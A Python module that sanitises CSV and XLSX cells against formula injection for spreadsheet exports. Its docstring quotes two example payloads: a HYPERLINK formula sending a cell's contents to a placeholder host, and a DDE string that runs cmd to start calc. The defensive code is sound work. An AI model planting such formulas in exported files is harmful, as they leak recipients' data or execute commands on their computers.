"""Cells for the CSV and XLSX files stewards and other departments open in Excel or WPS.

Delivered data is untrusted: a value such as ``=HYPERLINK("http://x/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
becomes a live formula when a spreadsheet opens the file (CSV/formula injection, OWASP). Text starting
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is therefore written with a leading apostrophe
in CSV (Excel and WPS show the text, not a formula), and as an explicit text cell in XLSX; plain numbers
such as ``-9999`` stay as they are. Characters XLSX cannot store (C0 controls) are dropped from XLSX cells.
Used by rectification lists (quality_rules.rectify) and sharing exports (pipelines.sharing).
"""

from __future__ import annotations

import re
from datetime import datetime
from typing import Any, Final

FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would evaluate this text as a formula (numbers are not)."""
    return text.startswith(FORMULA_START) and _NUMBER.fullmatch(text) is None


def csv_cell(value: Any) -> str:
    """A value as CSV text: empty for None, ISO for datetimes, formula-like text behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat()
    text = str(value)
    if isinstance(value, str) and is_formula_like(text):
        return "'" + text
    return text


def xlsx_text(value: str) -> str:
    """Text XLSX can store (C0 control characters removed)."""
    return _ILLEGAL_XLSX.sub("", value)


def xlsx_row(sheet: Any, values: list[Any]) -> list[Any]:
    """A row for openpyxl's ``sheet.append``: formula-like text as explicit text cells, never formulas.

    openpyxl stores any string starting with ``=`` as a formula; the cell's type is forced to text.
    """
    from openpyxl.cell import WriteOnlyCell  # a plain Cell of `sheet`; both worksheet kinds append it

    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            value = xlsx_text(value)
            if is_formula_like(value):
                cell = WriteOnlyCell(sheet, value=value)
                cell.data_type = "s"
                row.append(cell)
                continue
        row.append(value)
    return row
